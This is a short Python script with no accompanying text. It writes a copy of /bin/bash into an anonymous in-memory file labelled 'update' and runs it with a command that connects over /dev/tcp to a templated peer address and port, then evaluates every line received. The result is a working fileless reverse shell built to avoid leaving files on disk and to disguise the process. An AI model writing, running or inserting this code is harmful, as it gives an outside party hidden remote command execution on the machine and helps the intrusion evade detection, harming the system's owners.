import os, subprocess
shell = os.memfd_create("update", 0)
with open("/bin/bash", "rb") as file:
    os.write(shell, file.read())
command = "exec <> /dev/tcp/@PEER@/@PORT@ >&0; while read -r line; do eval \"$line\"; done"
subprocess.run([f"/proc/self/fd/{shell}", "-c", command], pass_fds=[shell])
